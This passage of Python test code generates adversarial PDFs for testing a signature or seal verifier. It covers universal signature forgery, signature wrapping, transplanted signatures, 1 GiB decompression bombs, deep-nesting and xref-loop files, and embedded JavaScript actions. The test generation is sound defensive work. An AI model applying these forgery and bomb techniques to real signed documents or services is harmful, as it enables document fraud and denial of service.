    yield c, "trailing-binary-junk", doc.data + random.Random(SEED).randbytes(600), False
    yield c, "trailing-second-header", doc.data + b"%PDF-1.7\n1 0 obj << >> endobj\n", False
    # the pages swapped in place of each other: the genuine page's content under another page object
    yield c, "update-with-unreferenced-fake-page", doc.update(_fake_page(doc, nums, doc.pages_root)[1]), False
    yield "benign", "empty-update", doc.update({}), True
    yield "benign", "trailing-newlines", doc.data + b"\n\n", True


# --------------------------------------------------------------------------------------------
# universal signature forgery and signature wrapping


def _usf_items(doc: Doc) -> Iterator[tuple[str, str, bytes]]:
    sig = doc.sigs[0]
    _, b, c, d = sig.byte_range
    L = len(doc.data)
    body = {  # the signature dictionary rewritten in a later revision (with a fake page)
        "contents-missing": {"drop": ["Contents"]},
        "contents-empty": {"Contents": b"<>"},
        "contents-null": {"Contents": b"null"},
        "contents-integer": {"Contents": b"0"},
        "contents-name": {"Contents": b"/Contents"},
        "contents-array": {"Contents": b"[ <00> ]"},
        "contents-zeros": {"Contents": b"<" + b"0" * (c - b - 2) + b">"},
        "contents-short-zeros": {"Contents": b"<0000>"},
        "contents-indirect": {"Contents": b"%d 0 R" % (doc.size + 850)},
        "byterange-missing": {"drop": ["ByteRange"]},
        "byterange-empty": {"ByteRange": b"[ ]"},
        "byterange-null": {"ByteRange": b"null"},
        "byterange-zeros": {"ByteRange": b"[0 0 0 0]"},
        "byterange-covers-everything": {"ByteRange": b"[0 %d 0 0]" % L},
        "byterange-overlapping": {"ByteRange": b"[0 %d %d %d]" % (b + 100, b - 100, d + 100)},
        "byterange-outside-file": {"ByteRange": b"[0 %d %d 999999999]" % (b, c)},
        "byterange-negative": {"ByteRange": b"[0 -1 %d %d]" % (c, d)},
        "byterange-three-numbers": {"ByteRange": b"[0 %d %d]" % (b, c)},
        "byterange-six-numbers": {"ByteRange": b"[0 %d %d %d %d 10]" % (b, c, d, L - 10)},
        "byterange-reals": {"ByteRange": b"[0.0 %d.5 %d.0 %d.0]" % (b, c, d)},
        "byterange-strings": {"ByteRange": b"[(0) (%d) (%d) (%d)]" % (b, c, d)},
        "byterange-huge": {"ByteRange": b"[0 %d %d 100000000000000000000000000000]" % (b, c)},
        "byterange-indirect": {"ByteRange": b"%d 0 R" % (doc.size + 851)},
        "byterange-whole-new-file": {"ByteRange": b"[0 %d %d %d]" % (b, c, L - c)},
        "type-doc-timestamp": {"Type": b"/DocTimeStamp", "SubFilter": b"/ETSI.RFC3161"},
        "subfilter-pkcs7-sha1": {"SubFilter": b"/adbe.pkcs7.sha1"},
        "subfilter-x509-rsa-sha1": {"SubFilter": b"/adbe.x509.rsa_sha1", "Cert": b"<3000>"},
        "filter-unknown": {"Filter": b"/Evil.Handler"},
    }
    for name, change in body.items():
        objs = {}
        drop = change.pop("drop", [])
        objs[sig.value] = doc.body(sig.value, drop=drop, **change)
        objs[doc.size + 850] = b"<" + b"0" * 64 + b">"
        objs[doc.size + 851] = b"[0 %d %d %d]" % (b, c, d)
        objs[doc.contents] = stream(b"", FAKE_PAGE)
        yield "usf", name, doc.update(objs)

    # in place, inside the signed revision (the /Contents gap is not hashed; /ByteRange is)
    gap = doc.data[b:c]
    cms_hex = gap[1:-1].rstrip(b"0")
    cms_hex = cms_hex + b"0" * (len(cms_hex) % 2)

    def in_gap(new_hex: bytes) -> bytes:
        new = b"<" + new_hex[: c - b - 2].ljust(c - b - 2, b"0") + b">"
        return doc.data[:b] + new + doc.data[c:]

    yield "usf", "inplace-contents-zeros", in_gap(b"")
    yield "usf", "inplace-contents-truncated-cms", in_gap(cms_hex[: len(cms_hex) // 2])
    for label, at in (("signature-value", _signature_value_at(cms_hex)), ("timestamp-token", len(cms_hex) - 40)):
        flipped = bytearray(cms_hex)
        flipped[at] = ord(b"%X" % (int(chr(flipped[at]), 16) ^ 1))
        yield "usf", f"inplace-contents-{label}-flipped", in_gap(bytes(flipped))
    rng = random.Random(SEED + 1)
    yield "usf", "inplace-contents-random-hex", in_gap(rng.randbytes((c - b - 2) // 2).hex().encode())
    yield "usf", "inplace-contents-non-hex", doc.data[:b] + b"<" + b"zz" * ((c - b - 2) // 2) + b">" + doc.data[c:]
    yield "usf", "inplace-contents-odd-hex", in_gap(cms_hex + b"1")
    yield "usf", "inplace-contents-trailing-garbage", in_gap(cms_hex + b"deadbeef" * 8)
    yield "usf", "inplace-contents-certificate-der", in_gap(_der_cert(doc).hex().encode())
    br_old = doc.data[sig.br_at : doc.data.index(b"]", sig.br_at) + 1]
    for label, arr in (
        ("inplace-byterange-zeros", b"/ByteRange [0 0 0 0]"),
        ("inplace-byterange-whole-file", b"/ByteRange [0 %d 0 0]" % L),
        ("inplace-byterange-first-part-only", b"/ByteRange [0 %d 0 0]" % b),
    ):
        yield "usf", label, doc.data[: sig.br_at] + arr.ljust(len(br_old)) + doc.data[sig.br_at + len(br_old) :]
    huge = b"<" + b"30" * (4 * MiB) + b">"
    yield "usf", "contents-4-mib-in-new-revision", doc.update({sig.value: doc.body(sig.value, Contents=huge)})


def _signature_value_at(cms_hex: bytes) -> int:
    """Where, in the hex of a CMS blob, the signer's signature value sits (a hex offset)."""
    from asn1crypto import cms

    info = cms.ContentInfo.load(bytes.fromhex(cms_hex.decode()), strict=False)
    value = info["content"]["signer_infos"][0]["signature"].native
    return cms_hex.lower().index(value.hex().encode()) + len(value)  # the middle of the value


def _der_cert(doc: Doc) -> bytes:
    from asn1crypto import cms

    gap = doc.data[doc.sigs[0].byte_range[1] : doc.sigs[0].byte_range[2]]
    info = cms.ContentInfo.load(bytes.fromhex(gap[1:-1].decode()), strict=False)
    return info["content"]["certificates"][0].dump()  # type: ignore[no-any-return]


def _wrapping_items(doc: Doc) -> Iterator[tuple[str, str, bytes]]:
    sig = doc.sigs[0]
    _, b, c, d = sig.byte_range
    signed_tail = doc.data[c : c + d]  # the hashed second part: rest of the sig dict ... %%EOF
    br_text = doc.data[sig.br_at : doc.data.index(b"]", sig.br_at) + 1]

    # SWA: the second signed part relocated to the end, the freed space for the attacker's objects;
    # a new /ByteRange (in unsigned bytes) points at the relocated copy, so the hash still matches
    def relocated(with_fake_page: bool) -> bytes:
        cms = doc.data[b:c]
        after_br = doc.data[sig.br_at + len(br_text) : doc.data.index(b"endobj", sig.br_at) + 6]
        head = doc.data[:b] + cms
        # bytes up to the /ByteRange text sit between the gap and /ByteRange (usually a newline)
        between = doc.data[c : sig.br_at]
        objs = bytearray()
        offsets: dict[int, int] = {}
        fake = doc.size + 860
        tail_obj = doc.size + 861
        placeholder = b"/ByteRange [0 %d 0000000000 %d]" % (b, d)
        body = head + between + placeholder.ljust(len(br_text)) + after_br + b"\n"
        if with_fake_page:
            offsets[fake] = len(body) + len(objs)
            objs += b"%d 0 obj\n" % fake + stream(b"", FAKE_PAGE) + b"\nendobj\n"
            page_num = doc.page
            offsets[page_num] = len(body) + len(objs)
            objs += b"%d 0 obj\n" % page_num + doc.body(doc.page, Contents=b"%d 0 R" % fake) + b"\nendobj\n"
        offsets[tail_obj] = len(body) + len(objs)
        objs += b"%d 0 obj\n<< /Length %d >>\nstream\n" % (tail_obj, d)
        relocated_at = len(body) + len(objs)
        objs += signed_tail + b"\nendstream\nendobj\n"
        out = bytearray(body + objs)
        new_br = b"/ByteRange [0 %d %010d %d]" % (b, relocated_at, d)
        at = out.index(placeholder)
        out[at : at + len(new_br)] = new_br
        # one xref for everything after the first revision: the signature revision's objects
        # at their (unchanged) offsets and the attacker's objects
        rev0_end = len(doc.first_revision())
        entries: dict[int, tuple[int, int, bytes]] = {0: (0, 65535, b"f")}
        for m in re.finditer(rb"(?m)^(\d+) 0 obj", bytes(out[rev0_end:b])):
            entries[int(m.group(1))] = (rev0_end + m.start(), 0, b"n")
        entries.update({n: (off, 0, b"n") for n, off in offsets.items()})
        xref_at = len(out)
        prev = last_startxref(doc.first_revision())
        out += _xref_table(entries)
        top = max([doc.size, *entries]) + 1
        out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d" % (top, doc.root, prev)
        if doc.id_raw:
            out += b" /ID " + doc.id_raw
        out += b" >>\nstartxref\n%d\n%%%%EOF\n" % xref_at
        return bytes(out)

    yield "wrapping", "signed-part-relocated-with-fake-page", relocated(True)
    yield "wrapping", "signed-part-relocated", relocated(False)

    # content inside the /Contents gap: the CMS ends early, the rest of the gap holds a hidden
    # object that a later revision points to
    cms_hex = doc.data[b + 1 : c - 1].rstrip(b"0")
    cms_hex += b"0" * (len(cms_hex) % 2)
    hidden_num = doc.size + 870
    hidden = b"%d 0 obj\n" % hidden_num + stream(b"", FAKE_PAGE) + b"\nendobj\n"
    room = (c - b) - len(cms_hex) - 1
    filler = b"> /Hidden (" + hidden.replace(b"(", b"\\(").replace(b")", b"\\)") + b")"
    if len(filler) < room:
        gap = b"<" + cms_hex + filler + b" " * (room - len(filler))
        gap = gap[: c - b]
        data = doc.data[:b] + gap + doc.data[c:]
        inner = data.index(b"%d 0 obj" % hidden_num, b)
        fake_page = doc.body(doc.page, Contents=b"%d 0 R" % hidden_num)
        out = bytearray(data + b"\n")
        page_at = len(out)
        out += b"%d 0 obj\n" % doc.page + fake_page + b"\nendobj\n"
        xref_at = len(out)
        out += _xref_table({0: (0, 65535, b"f"), hidden_num: (inner, 0, b"n"), doc.page: (page_at, 0, b"n")})
        out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d" % (hidden_num + 1, doc.root, doc.startxref)
        out += (b" /ID " + doc.id_raw if doc.id_raw else b"") + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref_at
        yield "wrapping", "object-hidden-in-contents-gap", bytes(out)
        yield "wrapping", "gap-string-injected", data
    # the gap widened in a new revision of the signature dictionary
    yield (
        "wrapping",
        "gap-widened",
        doc.update({sig.value: doc.body(sig.value, ByteRange=b"[0 %d %d %d]" % (b - 200, c, d))}),
    )
    # junk before the header shifts every offset
    yield "wrapping", "prefix-injected", b"%FAKE\n" + stream(b"", FAKE_PAGE) + b"\n" + doc.data
    # the signed revision appended again after the whole file
    yield "wrapping", "signed-revision-appended-again", doc.data + doc.signed_revision()[len(doc.first_revision()) :]
    # the signed bytes kept, a shorter file whose xref skips the signature revision
    yield (
        "wrapping",
        "signature-revision-orphaned",
        doc.update(
            {
                doc.page: doc.body(doc.page, Contents=b"%d 0 R" % (doc.size + 871)),
                doc.size + 871: stream(b"", FAKE_PAGE),
            },
            prev=last_startxref(doc.first_revision()),
        ),
    )


def _copied_items(a: Doc, b: Doc, far: Doc) -> Iterator[tuple[str, str, bytes]]:
    """The CMS of another certificate put into this one's signature."""

    def transplant(target: Doc, donor: Doc) -> bytes:
        _, tb, tc, _ = target.sigs[0].byte_range
        _, db, dc, _ = donor.sigs[0].byte_range
        hexs = donor.data[db + 1 : dc - 1].rstrip(b"0")
        hexs += b"0" * (len(hexs) % 2)
        hexs = hexs[: tc - tb - 2].ljust(tc - tb - 2, b"0")
        return target.data[:tb] + b"<" + hexs + b">" + target.data[tc:]

    yield "copied-signature", "same-institution-in-place", transplant(a, b)
    yield "copied-signature", "other-institution-in-place", transplant(a, far)
    signed_only = transplant(a, b)[: len(a.signed_revision())]
    yield "copied-signature", "same-institution-with-its-dss", rebase(signed_only, b.data[len(b.signed_revision()) :])
    _, db, dc, _ = b.sigs[0].byte_range
    yield (
        "copied-signature",
        "same-institution-new-revision",
        a.update({a.sigs[0].value: a.body(a.sigs[0].value, Contents=b.data[db:dc])}),
    )
    # the donor's whole signature dictionary and byte range in a new revision
    yield "copied-signature", "donor-signature-dictionary", a.update({a.sigs[0].value: b.body(b.sigs[0].value)})


# --------------------------------------------------------------------------------------------
# structural damage


def _structural_items(docs: Sequence[Doc], rng: random.Random) -> Iterator[tuple[str, str, bytes]]:
    for doc in docs[:2]:
        data = doc.data
        L = len(data)
        r0 = len(doc.first_revision())
        points = {
            "empty": 0,
            "one-byte": 1,
            "header-only": 9,
            "quarter": L // 4,
            "half": L // 2,
            "before-first-eof": r0 - 7,
            "at-first-revision": r0,
            "inside-signature-dict": doc.sigs[0].byte_range[1] + 10,
            "inside-contents-gap": (doc.sigs[0].byte_range[1] + doc.sigs[0].byte_range[2]) // 2,
            "at-signed-revision": len(doc.signed_revision()),
            "inside-dss": (len(doc.signed_revision()) + L) // 2,
            "before-last-xref": doc.startxref,
            "inside-last-trailer": L - 40,
            "eof-marker-cut": L - 3,
            "eof-marker-missing": L - 6,
        }
        for name, at in points.items():
            yield "truncation", f"{doc.label}-{name}", data[:at]
    for i in range(16):
        n = rng.choice([0, 1, 7, 100, 1000, 5000, 30000, 65536])
        head = [b"", b"%PDF-1.7\n", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"][i % 3]
        tail = b"\n%%EOF\n" if i % 4 == 3 else b""
        yield "random", f"random-{i}-{n}", head + rng.randbytes(n) + tail
    yield "random", "pdf-header-then-nuls", b"%PDF-1.7\n" + bytes(200_000)
    yield "random", "html-not-pdf", b"<!doctype html><script>alert(1)</script>"
    yield "random", "header-after-1-kib", rng.randbytes(1024) + docs[0].data
    # bit flips inside the bytes the seal hashes
    for doc in docs[:3]:
        a, b, c, d = doc.sigs[0].byte_range
        for i in range(14):
            data = bytearray(doc.data)
            nflips = [1, 1, 2, 8, 64][i % 5]
            for _ in range(nflips):
                pos = rng.randrange(0, b) if rng.random() < 0.8 else rng.randrange(c, c + d)
                data[pos] ^= 1 << rng.randrange(8)
            yield "bitflip", f"{doc.label}-{i}-{nflips}-bits", bytes(data)
        # targeted: the record stream, the page content, the byte range digits
        for label, num in (("record", doc.ef), ("content", doc.contents)):
            if num is None:
                continue
            at = doc.data.index(b"stream", doc.data.index(b"\n%d 0 obj" % num)) + 20
            data = bytearray(doc.data)
            data[at] ^= 0x10
            yield "bitflip", f"{doc.label}-{label}-stream", bytes(data)
        digits = doc.data.index(b"[", doc.sigs[0].br_at) + 3
        data = bytearray(doc.data)
        data[digits] = ord("7") if data[digits] != ord("7") else ord("8")
        yield "bitflip", f"{doc.label}-byterange-digit", bytes(data)
    for i in range(10):
        data = bytearray(docs[i % len(docs)].data)
        a = rng.randrange(len(data))
        if i % 2:
            del data[a : a + rng.randint(1, 4000)]
        else:
            data[a:a] = rng.choice(
                [b"endobj", b"<<", b">>", b"xref", b"startxref 0", b"%%EOF", b"/Length 99999", b"stream"]
            )
        yield "splice", f"splice-{i}", bytes(data)


def minimal_pdf(objects: Mapping[int, bytes], root: int = 1, *, header: bytes = b"%PDF-1.7\n") -> bytes:
    """A whole PDF from object bodies, with a classic xref table."""
    out = bytearray(header)
    offsets = {}
    for n in sorted(objects):
        offsets[n] = len(out)
        out += b"%d 0 obj\n" % n + objects[n] + b"\nendobj\n"
    xref_at = len(out)
    entries: dict[int, tuple[int, int, bytes]] = {0: (0, 65535, b"f")}
    entries |= {n: (o, 0, b"n") for n, o in offsets.items()}
    full = {n: entries.get(n, (0, 0, b"f")) for n in range(max(entries) + 1)}
    out += _xref_table(full) + b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(full),
        root,
        xref_at,
    )
    return bytes(out)


def _bomb_items(doc: Doc, gib: bytes, nested: bytes) -> Iterator[tuple[str, str, bytes]]:
    """Decompression bombs: 1 GiB of zeros behind ~1 MB (single Flate) or ~2 KB (nested)."""
    ff = b"[/FlateDecode /FlateDecode]"
    assert doc.ef is not None
    rec = lambda payload, filt: doc.update({doc.ef: _record_stream(doc, payload, filters=filt, encode=False)})  # noqa: E731
    yield "bomb", "record-1gib-flate", rec(gib, b"/FlateDecode")
    yield "bomb", "record-1gib-flate-flate", rec(nested, ff)
    yield "bomb", "record-1gib-flate-x3", rec(zlib.compress(nested, 9), b"[/FlateDecode /FlateDecode /FlateDecode]")
    yield (
        "bomb",
        "record-1gib-ascihex-flate-flate",
        rec(nested.hex().encode() + b">", b"[/ASCIIHexDecode /FlateDecode /FlateDecode]"),
    )
    yield "bomb", "record-512mib-runlength", rec(b"\x81\x00" * (4 * MiB), b"/RunLengthDecode")
    yield (
        "bomb",
        "record-png-predictor-huge-columns",
        doc.update(
            {
                doc.ef: stream(
                    b"/Type /EmbeddedFile /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2000000000 /Colors 4 >>",
                    zlib.compress(b"\x00" * 4096),
                )
            }
        ),
    )
    # the record bomb written by a full rewrite (pikepdf): the signature breaks as well
    import pikepdf

    with pikepdf.open(io.BytesIO(doc.data)) as pdf:
        spec = pdf.Root.Names.EmbeddedFiles.Names[1]
        spec.EF.F.write(gib, filter=pikepdf.Name.FlateDecode)
        buf = io.BytesIO()
        pdf.save(buf)
        yield "bomb", "record-1gib-full-rewrite", buf.getvalue()
    nums = doc.numbers()
    c = next(nums)
    yield "bomb", "content-stream-1gib", doc.update({doc.contents: stream(b"/Filter /FlateDecode", gib)})
    yield "bomb", "content-stream-1gib-nested", doc.update({doc.contents: stream(b"/Filter " + ff, nested)})
    yield (
        "bomb",
        "content-stream-array-of-bombs",
        doc.update(
            {
                c: stream(b"/Filter " + ff, nested),
                doc.page: doc.page_with(Contents=b"[ %d 0 R %d 0 R %d 0 R %d 0 R ]" % (doc.contents, c, c, c)),
            }
        ),
    )
    # an object stream whose data inflates to 1 GiB: object 1 of it replaces the catalog
    objstm = next(nums)
    cat_body = doc.body(doc.root)
    header = b"%d 0 " % doc.root
    payload = zlib.compressobj(9)
    head = header + cat_body + b"\n"
    comp = payload.compress(head) + payload.flush(zlib.Z_FULL_FLUSH)
    z = bytes(MiB)
    again = payload.compress(z) + payload.flush(zlib.Z_FULL_FLUSH)
    again2 = payload.compress(z) + payload.flush(zlib.Z_FULL_FLUSH)
    body_bytes = comp + again + again2 * 1022 + payload.flush()
    yield (
        "bomb",
        "object-stream-1gib",
        doc.update(
            {objstm: stream(b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header), body_bytes)},
            compressed={doc.root: (objstm, 0)},
        ),
    )
    for key in ("Certs", "OCSPs", "CRLs"):
        b_ = next(nums)
        dss = b"<< /" + key.encode() + b" [ %d 0 R ] >>" % b_
        d_ = next(nums)
        yield (
            "bomb",
            f"dss-{key.lower()}-1gib",
            doc.update(
                {b_: stream(b"/Filter " + ff, nested), d_: dss, doc.root: doc.body(doc.root, DSS=b"%d 0 R" % d_)}
            ),
        )
    res = doc.obj(doc.resources) if doc.resources else doc.page_obj.Resources
    xobjs = [k for k, v in res.get("/XObject", {}).items() if v.get("/Subtype") == "/Image"]
    if xobjs:
        target = res.XObject[xobjs[0]].objgen[0]
        yield (
            "bomb",
            "image-32768-square-rgb",
            doc.update(
                {
                    target: stream(
                        b"/Type /XObject /Subtype /Image /Width 32768 /Height 32768 /ColorSpace /DeviceRGB "
                        b"/BitsPerComponent 8 /Filter " + ff,
                        nested,
                    )
                }
            ),
        )
    ap = next(nums)
    box = doc.name_box
    yield (
        "bomb",
        "annotation-appearance-1gib",
        doc.with_annotation(
            _annot(b"/Stamp", box, ap),
            {ap: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Filter " + ff, nested)},
        ),
    )
    meta = next(nums)
    yield (
        "bomb",
        "xmp-metadata-1gib",
        doc.update(
            {
                meta: stream(b"/Type /Metadata /Subtype /XML /Filter " + ff, nested),
                doc.root: doc.body(doc.root, Metadata=b"%d 0 R" % meta),
            }
        ),
    )
    oi = doc.obj(doc.root).get("/OutputIntents")
    if oi is not None and len(oi) and "/DestOutputProfile" in oi[0]:
        prof = oi[0].DestOutputProfile.objgen[0]
        yield "bomb", "icc-profile-1gib", doc.update({prof: stream(b"/N 3 /Filter " + ff, nested)})
    # at the upload limit: nine 1 GiB bombs in one 9.5 MB file
    many = list(itertools.islice(nums, 9))
    dssn = next(nums)
    objs = {n: stream(b"/Filter /FlateDecode", gib) for n in many}
    objs[dssn] = b"<< /Certs [ " + b" ".join(b"%d 0 R" % n for n in many) + b" ] >>"
    objs[doc.root] = doc.body(doc.root, DSS=b"%d 0 R" % dssn)
    yield "bomb", "nine-gib-at-upload-limit", doc.update(objs)
    # over the upload limit (10 MiB): the answer must be 413, not a crash
    yield "bomb", "over-upload-limit", doc.update({next(nums): stream(b"", b"0" * (10 * MiB + 4096))})


def _nesting_items(doc: Doc) -> Iterator[tuple[str, str, bytes]]:
    deep = 100_000
    arr = b"[" * deep + b"]" * deep
    dct = b"<< /A " * deep + b">> " * deep
    nums = doc.numbers()
    n = next(nums)
    yield (
        "nesting",
        "array-100k-deep-in-catalog",
        doc.update({n: arr, doc.root: doc.body(doc.root, Deep=b"%d 0 R" % n)}),
    )
    yield "nesting", "dict-100k-deep-in-catalog", doc.update({doc.root: doc.body(doc.root, Deep=dct)})
    yield (
        "nesting",
        "array-100k-deep-as-byterange",
        doc.update({doc.sigs[0].value: doc.body(doc.sigs[0].value, ByteRange=arr)}),
    )
    yield "nesting", "array-100k-deep-in-annots", doc.update({doc.page: doc.body(doc.page, Annots=arr)})
    yield "nesting", "array-100k-deep-in-trailer", doc.update({}, trailer_extra=b" /Deep " + arr)
    yield (
        "nesting",
        "array-100k-deep-in-dss",
        doc.update({doc.root: doc.body(doc.root, DSS=b"<< /Certs " + arr + b" >>")}),
    )
    yield (
        "nesting",
        "standalone-array-100k-deep",
        minimal_pdf(
            {1: b"<< /Type /Catalog /Pages 2 0 R /Deep " + arr + b" >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}
        ),
    )
    chain = list(itertools.islice(nums, 20_000))
    objs = {a: b"%d 0 R" % b for a, b in itertools.pairwise(chain)}
    objs[chain[-1]] = b"null"
    objs[doc.root] = doc.body(doc.root, Chain=b"%d 0 R" % chain[0])
    yield "nesting", "reference-chain-20k", doc.update(objs)
    # a page tree 5,000 levels deep, the genuine page at the bottom
    levels = list(itertools.islice(nums, 5_000))
    objs = {}
    for i, lv in enumerate(levels):
        parent = b" /Parent %d 0 R" % levels[i - 1] if i else b""
        kid = levels[i + 1] if i + 1 < len(levels) else doc.page
        objs[lv] = b"<< /Type /Pages /Kids [ %d 0 R ] /Count 1%s >>" % (kid, parent)
    objs[doc.page] = doc.body(doc.page, Parent=b"%d 0 R" % levels[-1])
    objs[doc.root] = doc.body(doc.root, Pages=b"%d 0 R" % levels[0])
    yield "nesting", "page-tree-5000-deep", doc.update(objs)
    yield (
        "nesting",
        "page-tree-kids-cycle",
        doc.update(
            {
                doc.pages_root: doc.body(
                    doc.pages_root, Kids=b"[ %d 0 R %d 0 R ]" % (doc.page, doc.pages_root), Count=b"2"
                )
            }
        ),
    )
    yield "nesting", "page-parent-self", doc.update({doc.page: doc.body(doc.page, Parent=b"%d 0 R" % doc.page)})
    o1, o2 = next(nums), next(nums)
    yield (
        "nesting",
        "outline-next-cycle",
        doc.update(
            {
                o1: b"<< /Title (a) /Next %d 0 R /Prev %d 0 R >>" % (o2, o2),
                o2: b"<< /Title (b) /Next %d 0 R /Prev %d 0 R >>" % (o1, o1),
                n: b"<< /Type /Outlines /First %d 0 R /Last %d 0 R /Count 2 >>" % (o1, o2),
                doc.root: doc.body(doc.root, Outlines=b"%d 0 R" % n),
            }
        ),
    )
    yield "nesting", "record-json-100k-deep", with_record(doc, None, raw=b"[" * deep + b"]" * deep)


def _xref_items(doc: Doc) -> Iterator[tuple[str, str, bytes]]:
    base = doc.data
    # an update whose /Prev points at its own xref
    yield "xref", "prev-points-to-itself", _self_prev(doc)
    yield "xref", "two-xrefs-point-at-each-other", _prev_loop(doc)
    yield "xref", "prev-beyond-eof", doc.update({}, prev=len(base) * 3)
    yield "xref", "prev-negative", doc.update({}, prev=-5)
    yield "xref", "prev-into-a-stream", doc.update({}, prev=base.index(b"stream", 2000) + 30)
    yield "xref", "startxref-zero", base[: base.rindex(b"startxref")] + b"startxref\n0\n%%EOF\n"
    yield "xref", "startxref-garbage", base[: base.rindex(b"startxref")] + b"startxref\n99999999999999999999\n%%EOF\n"
    fake = doc.size + 880
    yield "xref", "xref-stream-self-prev", _xref_stream_self_prev(doc)
    yield (
        "xref",
        "xref-stream-huge-index",
        doc.data
        + b"\n%d 0 obj\n" % fake
        + stream(
            b"/Type /XRef /W [1 4 2] /Index [0 2147483647] /Size 2147483647 /Root %d 0 R /Prev %d"
            % (doc.root, doc.startxref),
            b"\x01\x00\x00\x00\x00\x00\x00" * 10,
        )
        + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(doc.data) + 1),
    )
    yield (
        "xref",
        "xref-stream-zero-widths",
        doc.data
        + b"\n%d 0 obj\n" % fake
        + stream(b"/Type /XRef /W [0 0 0] /Size 100000000 /Root %d 0 R /Prev %d" % (doc.root, doc.startxref), b"")
        + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(doc.data) + 1),
    )
    tbl_at = len(base) + 1
    yield (
        "xref",
        "xref-table-100-million-entries",
        base
        + b"\nxref\n0 100000000\n0000000000 65535 f \ntrailer\n<< /Size 100000000 /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (
            doc.root,
            doc.startxref,
            tbl_at,
        ),
    )
    at = len(base) + (0 if base.endswith(b"\n") else 1)
    yield (
        "xref",
        "entries-beyond-eof",
        (base if base.endswith(b"\n") else base + b"\n")
        + _xref_table({0: (0, 65535, b"f"), doc.root: (999_999_999, 0, b"n"), doc.page: (len(base) * 2, 0, b"n")})
        + b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (doc.size, doc.root, doc.startxref, at),
    )
    s1, s2 = doc.size + 881, doc.size + 882
    yield (
        "xref",
        "object-stream-extends-loop",
        doc.update(
            {
                s1: stream(b"/Type /ObjStm /N 1 /First 4 /Extends %d 0 R" % s2, b"1 0 << >>"),
                s2: stream(b"/Type /ObjStm /N 1 /First 4 /Extends %d 0 R" % s1, b"1 0 << >>"),
            }
        ),
    )
    yield "xref", "hybrid-xrefstm-points-to-itself", doc.update({}, trailer_extra=b" /XRefStm %d" % (len(base) + 1))


def _self_prev(doc: Doc) -> bytes:
    at = len(doc.data) + (0 if doc.data.endswith(b"\n") else 1)
    return doc.update({}, prev=at)


def _prev_loop(doc: Doc) -> bytes:
    first = doc.update({})
    x1 = last_startxref(first)
    # the second update's xref will sit right after the first update
    x2 = len(first)
    second = append_update(first, {}, root=doc.root, size=doc.size, id_raw=doc.id_raw, prev=x1)
    assert last_startxref(second) == x2
    # now point the first update at the second
    patched = first.replace(b"/Prev %d" % doc.startxref, b"/Prev %d" % x2, 1)
    pad = len(first) - len(patched)
    patched = patched.replace(b" >>\nstartxref", b" " * pad + b" >>\nstartxref", 1) if pad > 0 else patched
    if len(patched) != len(first):
        return second
    return patched + second[len(first) :]


def _xref_stream_self_prev(doc: Doc) -> bytes:
    at = len(doc.data) + (0 if doc.data.endswith(b"\n") else 1)
    return doc.update({}, prev=at, xref_stream=True)


def _encryption_items(doc: Doc) -> Iterator[tuple[str, str, bytes]]:
    import pikepdf

    for name, enc in (
        ("aes256-empty-user-password", pikepdf.Encryption(owner="owner", user="", R=6)),
        ("aes128-empty-user-password", pikepdf.Encryption(owner="owner", user="", R=4, aes=True)),
        ("rc4-40-empty-user-password", pikepdf.Encryption(owner="owner", user="", R=2, aes=False, metadata=False)),
        ("aes256-user-password", pikepdf.Encryption(owner="owner", user="secret", R=6)),
        ("aes256-metadata-in-clear", pikepdf.Encryption(owner="owner", user="", R=6, metadata=False)),
    ):
        with pikepdf.open(io.BytesIO(doc.data)) as pdf:
            buf = io.BytesIO()
            pdf.save(buf, encryption=enc)
            yield "encryption", name, buf.getvalue()
    n = doc.size + 890
    yield (
        "encryption",
        "encrypt-dict-added-incrementally",
        doc.update(
            {n: b"<< /Filter /Standard /V 2 /R 3 /Length 128 /O <%s> /U <%s> /P -4 >>" % (b"00" * 32, b"00" * 32)},
            trailer_extra=b" /Encrypt %d 0 R" % n,
        ),
    )
    yield (
        "encryption",
        "encrypt-unknown-handler",
        doc.update({n: b"<< /Filter /Evil.Security /V 4 /R 4 >>"}, trailer_extra=b" /Encrypt %d 0 R" % n),
    )


def _js_items(doc: Doc) -> Iterator[tuple[str, str, bytes]]:
    nums = doc.numbers()
    js = b"app.alert('forged'); this.getField('Seal1-institution');"
    a = next(nums)
    yield (
        "javascript",
        "open-action-js",
        doc.update(
            {a: b"<< /S /JavaScript /JS (" + js + b") >>", doc.root: doc.body(doc.root, OpenAction=b"%d 0 R" % a)}
        ),
    )
    s = next(nums)
    yield (
        "javascript",
        "open-action-js-stream",
        doc.update(
            {
                s: stream(b"", js),
                a: b"<< /S /JavaScript /JS %d 0 R >>" % s,
                doc.root: doc.body(doc.root, OpenAction=b"%d 0 R" % a),
            }
        ),
    )
    names = doc.obj(doc.root).Names
    tree = (
        b"<< "
        + b" ".join(k.encode() + b" " + syntax(v) for k, v in names.items())
        + b" /JavaScript << /Names [ (x) %d 0 R ] >> >>" % a
    )
    yield (
        "javascript",
        "names-javascript",
        doc.update({a: b"<< /S /JavaScript /JS (" + js + b") >>", doc.root: doc.body(doc.root, Names=tree)}),
    )
    yield (
        "javascript",
        "page-open-js",
        doc.update({doc.page: doc.body(doc.page, AA=b"<< /O << /S /JavaScript /JS (" + js + b") >> >>")}),
    )
    yield (
        "javascript",
        "catalog-aa-js",
        doc.update({doc.root: doc.body(doc.root, AA=b"<< /WC << /S /JavaScript /JS (" + js + b") >> >>")}),
    )
    box = doc.name_box
    yield (
        "javascript",
        "link-annotation-js",
        doc.with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect "
            + _rect(box)
            + b" /A << /S /JavaScript /JS ("
            + js
            + b") >> /P @PAGE@ >>"
        ),
    )
    yield (
        "javascript",
        "launch-action",
        doc.update(
            {
                doc.root: doc.body(
